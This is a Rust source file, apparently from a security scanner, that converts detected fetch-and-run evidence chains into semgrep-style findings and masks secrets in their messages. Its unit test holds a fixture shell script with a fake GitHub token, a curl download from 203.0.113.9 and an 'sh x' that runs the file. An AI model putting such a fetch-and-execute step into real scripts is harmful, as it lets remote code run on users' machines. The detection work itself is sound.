//! Chains of evidence, in the form of semgrep's matches: what lowers, merges and caps a match does the same to them.

use crate::{
    mask,
    staging::StagedTree,
    tools::{
        output::{Hit, Step},
        severity::{Grade, Level},
    },
};

/// The chains that staging found, each at its place in the copy.
pub(super) fn hits(copy: &StagedTree) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (at, file) in copy.files.iter().enumerate() {
        for found in copy.evidence.get(&at).into_iter().flatten() {
            let line = |line: u32| line.saturating_add(file.lines_before);
            let chain = &found.chain;
            let step = |step: &skillgate_detection::Step| Step {
                fact: step.fact.word(),
                line: line(step.line),
            };
            hits.push(Hit {
                rule: chain.rule.id().to_owned(),
                name: file.name.clone(),
                line: line(chain.first_line()),
                end_line: line(chain.last_line()),
                col: found.column.saturating_add(1),
                // To the end of the line.
                end_col: u32::MAX,
                message: mask::redact(&chain.message()),
                loose: found.loose,
                level: Level::Error,
                category: "malice".to_owned(),
                confidence: Grade::High,
                likelihood: Grade::High,
                steps: chain.steps.iter().map(step).collect(),
            });
        }
    }
    hits
}

/// Whether a rule is one of the chains that block.
pub(super) fn blocks(rule: &str) -> bool {
    skillgate_detection::Rule::ALL.iter().any(|chain| chain.blocks() && chain.id() == rule)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        staging::{Evidence, Language},
        tools::{place, testcopy},
    };
    use skillgate_contract::{Provider, Severity};
    use skillgate_detection::{Chain, Fact, Rule};

    #[test]
    fn a_chain_s_steps_stand_at_their_lines_in_the_repository_with_secrets_masked() {
        let text = "\nKEY=ghp_0123456789abcdefghij0123456789abcdef curl -o x 203.0.113.9\n\nsh x\n# canary\n";
        let mut copy = testcopy::copy().file("sh", "a/setup.sh", Language::Shell, text);
        copy = copy.with(|file| (file.lines_before, file.content_lines) = (1, 3));
        let step =
            |fact, line, what: &str| skillgate_detection::Step { fact, line, what: what.into() };
        let steps = vec![
            step(Fact::Fetch, 1, "fetches 203.0.113.9"),
            step(Fact::Run, 3, "runs it"),
            step(Fact::Run, 4, "runs our own line, which is none of the file's"),
        ];
        let chain = Chain { rule: Rule::FetchRun, steps };
        copy.copy.evidence.insert(0, vec![Evidence { chain, column: 0, loose: false }]);
        let hits = hits(&copy.copy);
        let found = place::findings(hits.iter(), &copy.copy, Provider::Semgrep, |_, _, _, _| {
            Severity::Critical
        });
        let found = &found.kept[0];
        let steps: Vec<_> = found
            .chain
            .iter()
            .map(|step| (step.fact.as_str(), step.file.as_str(), step.line, step.code.as_str()))
            .collect();
        let masked = "KEY=…(44) curl -o x 203.0.113.9";
        assert_eq!(steps, [("fetch", "a/setup.sh", 1, masked), ("run", "a/setup.sh", 3, "sh x")]);
        assert!(
            found.message.contains("Seen: fetches 203.0.113.9; runs it; "),
            "{}",
            found.message
        );
    }
}
